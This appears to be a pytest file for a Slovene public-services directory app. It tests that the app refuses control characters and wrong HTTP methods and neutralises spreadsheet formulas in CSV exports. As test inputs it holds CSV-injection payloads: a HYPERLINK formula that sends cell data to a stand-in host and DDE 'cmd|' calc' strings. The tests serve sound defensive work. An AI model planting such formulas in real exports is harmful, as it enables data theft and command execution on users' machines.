"""What the edge refuses or neutralises: control characters, wrong methods, spreadsheet formulas, huge values.

Each case was found by probing the running app (issue 10): NUL bytes gave a 500 on PostgreSQL on 13 GET
routes, sign-in, the report form and the kiosk; a 405 carried no Allow header; CSV downloads carried
=HYPERLINK(…) cells unescaped."""
import csv
import io
import re
import zipfile

import pytest

from infotocka.extensions import db
from tests.conftest import SAMPLE
from infotocka.models import TARGET_GROUPS, Region, TaxonomyTerm

REFUSED = "nedovoljene kontrolne znake"


def _get_urls(app, text: str) -> list[str]:
    """Every GET route of the app, its path values filled with `text` (numbers with 1)."""
    rules = [rule.rule for rule in app.url_map.iter_rules() if "GET" in rule.methods]
    return sorted({re.sub(r"<[^>]+>", text, re.sub(r"<int:[^>]+>", "1", rule)) for rule in rules})


def _refused(response) -> bool:
    body = response.get_data(as_text=True)
    return response.status_code == 400 and REFUSED in body


def test_nul_in_any_path_or_query_is_a_400_with_a_slovene_message(app, client, sample):
    in_path = [url for url in _get_urls(app, "a%00b") if "%00" in url]
    plain = _get_urls(app, "ok")
    assert len(in_path) >= 15 and len(plain) >= 40
    for url in in_path:
        assert _refused(client.get(url)), url
    for url in plain:
        for query in ({"q": "x\x00y", "search": "x\x00y"}, {"obcina": "\x00"}, {"stran": "1\x00", "page": "1\x00"},
                      {"ids": "svc-a,\x07"}, {"x\x00": "1"}):
            assert _refused(client.get(url, query_string=query)), (url, query)


@pytest.mark.parametrize("path, form", [
    ("/prijava", {"email": "a\x00@b.si", "password": "geslo"}),
    ("/pozabljeno-geslo", {"email": "a@b.si\x00"}),
    ("/storitev/svc-csd-trbovlje-dsp/prijavi-napako", {"topic": "other", "message": "napaka\x00 v vnosu"}),
    ("/kiosk/izbor", {"id": "svc-csd-trbovlje-dsp\x00"}),
    ("/kiosk/trbovlje/izbor", {"id": "svc\x1b[2J"}),
])
def test_control_characters_in_a_form_are_a_400(client, sample, path, form):
    assert _refused(client.post(path, data=form))


def test_line_breaks_and_tabs_in_a_text_area_still_pass(client, sample):
    response = client.post("/storitev/svc-csd-trbovlje-dsp/prijavi-napako",
                           data={"topic": "other", "message": "Prva vrstica\r\n\tdruga vrstica"})
    assert response.status_code in (200, 302) and REFUSED not in response.get_data(as_text=True)


def test_api_refusal_is_json(client):
    response = client.get("/api/v1/services", query_string={"search": "a\x00"})
    assert response.status_code == 400 and REFUSED in response.get_json()["message"]


@pytest.mark.parametrize("method, path, allowed", [("post", "/iskanje", {"GET"}),
                                                   ("delete", "/api/v1/services", {"GET"}),
                                                   ("put", "/prijava", {"GET", "POST"}),
                                                   ("get", "/odjava", {"POST"})])
def test_405_says_which_methods_are_allowed(client, method, path, allowed):
    response = getattr(client, method)(path)
    assert response.status_code == 405
    assert allowed <= {m.strip() for m in response.headers["Allow"].split(",")}


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_coverage_csv_neutralises_formula_cells(app, client, sample):
    term = db.session.scalars(db.select(TaxonomyTerm).where(TaxonomyTerm.taxonomy == TARGET_GROUPS)).first()
    term.name_sl = '=HYPERLINK("http://zlobno.example/?x="&A1,"Klikni")'
    db.session.scalars(db.select(Region).where(Region.slug == "zasavska")).one().municipalities[0].name = (
        "@SUM(1+1)*cmd|' /C calc'!A0")
    db.session.commit()
    response = client.get("/api/v1/coverage.csv", query_string={"region": "zasavska"})
    assert response.status_code == 200
    cells = _csv_cells(response.get_data(as_text=True))
    assert "'" + term.name_sl in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
    assert "0" in cells  # plain numbers are left as they are


def test_data_package_neutralises_formulas_and_reads_them_back(app, sample, tmp_path):
    from infotocka.directory.datapackage import read_tables, write_datapackage
    from infotocka.directory.hsds_export import export_directory

    records = export_directory(public=True)
    records[0]["description"] = "-2+3+cmd|' /C calc'!A0"
    records[0]["name"] = "+HYPERLINK(\"http://zlobno.example\")"
    records[0]["phones"] = [{"id": "tel-formula", "number": "+386 3 56 52 100"}]
    path = tmp_path / "paket.zip"
    with path.open("wb") as fh:
        write_datapackage(fh, records)
    with zipfile.ZipFile(path) as archive:
        cells = _csv_cells(archive.read("services.csv").decode("utf-8"))
        phones = _csv_cells(archive.read("phones.csv").decode("utf-8"))
    assert "'-2+3+cmd|' /C calc'!A0" in cells and "'+HYPERLINK(\"http://zlobno.example\")" in cells
    assert "+386 3 56 52 100" in phones  # a phone number is data, not a formula: left as it is
    services = {row["id"]: row for row in read_tables(path)["services"]}
    assert services[records[0]["id"]]["description"] == "-2+3+cmd|' /C calc'!A0"  # nothing lost on import


def test_import_refuses_a_description_over_10000_characters(app):
    from infotocka.directory.hsds_import import import_records, read_records

    record = {**read_records(SAMPLE)[0], "id": "svc-dolg-opis"}
    report = import_records([{**record, "description": "a" * 10_001}])
    assert report.rejected == 1
    assert report.problems[0].field == "description" and "največ 10000 znakov" in report.problems[0].message
    assert import_records([{**record, "description": "a" * 10_000}]).rejected == 0
